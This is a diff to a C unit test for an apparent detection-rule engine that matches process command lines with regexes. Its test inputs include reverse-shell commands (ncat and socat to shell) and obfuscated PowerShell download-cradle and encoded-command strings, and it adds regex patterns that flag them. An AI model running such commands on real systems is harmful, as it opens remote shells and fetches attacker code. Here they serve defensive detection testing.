@@ -345,6 +345,19 @@ static void test_re(void **state)
     expect_proc(1, l, "CommandLine", "ncat -e /bin/sh 10.0.0.1");
     expect_proc(1, l, "CommandLine", "socat tcp:1.2.3.4:80 exec:sh");
     expect_proc(0, l, "CommandLine", "netcat -l");
+
+    /* long values (24 bytes and more) are checked for the regex's rare bytes
+     * before PCRE2 runs: the backtick and the "${" are required, letters are never
+     * used (caseless matching has more than two cases of some) */
+    const char *t = PROC_RULE("  sel:\n    CommandLine|re: '\\w+`(?:\\w+|-|.)`[\\w+|\\s]'\n  condition: sel\n");
+    expect_proc(1, t, "CommandLine", "powershell -c IN`V`o`Ke-eXp`ResSIOn (New-Object Net.WebClient)");
+    expect_proc(0, t, "CommandLine", "powershell -c Invoke-Expression (New-Object Net.WebClient)");
+    const char *e = PROC_RULE("  sel:\n    CommandLine|re: '(?i)\\$\\{`?e`?n`?v`?:`?p`?a`?t`?h`?\\}'\n  condition: sel\n");
+    expect_proc(1, e, "CommandLine", "powershell -nop -c ${E`Nv:PaTh} | out-null and more");
+    expect_proc(0, e, "CommandLine", "powershell -nop -c $env:path | out-null and more");
+    const char *k = PROC_RULE("  sel:\n    CommandLine|re: '(?i)-ENC#'\n  condition: sel\n");
+    expect_proc(1, k, "CommandLine", "powershell.exe -enc#SQBFAFgAKABOAGUAdwA");
+    expect_proc(0, k, "CommandLine", "powershell.exe -enc SQBFAFgAKABOAGUAdwA");
 }
 
 static void test_re_flags_need_re(void **state)
